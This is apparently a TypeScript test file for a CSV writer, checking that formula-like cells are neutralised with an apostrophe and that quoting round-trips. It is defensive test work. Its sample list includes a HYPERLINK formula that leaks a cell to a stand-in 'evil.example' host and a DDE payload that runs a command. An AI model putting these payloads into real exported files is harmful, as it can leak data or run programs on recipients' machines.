import { csvCell, toCsv } from './csv';

/** Reads a file back the way a spreadsheet's CSV import does (RFC 4180), to check round trips. */
function parse(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else {
      cell += c;
    }
  }
  return rows;
}

describe('the CSV writer (issue 39)', () => {
  it('makes formulas inert: a cell starting with = + - @ tab or CR opens as text', () => {
    const attacks = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      '@SUM(1)',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '\t=1+1',
      '\r=1+1',
      '=1+1',
    ];
    for (const attack of attacks) {
      const cell = parse(toCsv(['x'], [[attack]]))[1][0];
      // what the spreadsheet reads starts with the apostrophe, never with a formula character
      expect(cell).toBe(`'${attack}`);
      expect(cell[0]).toBe("'");
    }
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('@SUM(1)')).toBe("'@SUM(1)");
    expect(csvCell('=HYPERLINK("http://evil")')).toBe(`"'=HYPERLINK(""http://evil"")"`);
  });

  it('leaves ordinary text and numbers alone; a negative number is a number, not a formula', () => {
    expect(csvCell('article.publish')).toBe('article.publish');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('Ünïcödé 東京')).toBe('Ünïcödé 東京');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(true)).toBe('true');
  });

  it('quotes commas, quotes, newlines and edge spaces, and reads back exactly', () => {
    const rows = [
      ['a, b', 'say "hi"', 'line 1\nline 2', 'cr\r\nlf', ' padded ', "'quoted"],
      ['', 'plain', '=evil', 'x"', ',', '"'],
    ];
    const text = toCsv(['one', 'two', 'three', 'four', 'five', 'six'], rows);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.split('\r\n')[0]).toBe('one,two,three,four,five,six');
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    const back = parse(text);
    expect(back[1]).toEqual(rows[0]);
    expect(back[2]).toEqual(['', 'plain', "'=evil", 'x"', ',', '"']);
    expect(back).toHaveLength(3);
  });
});
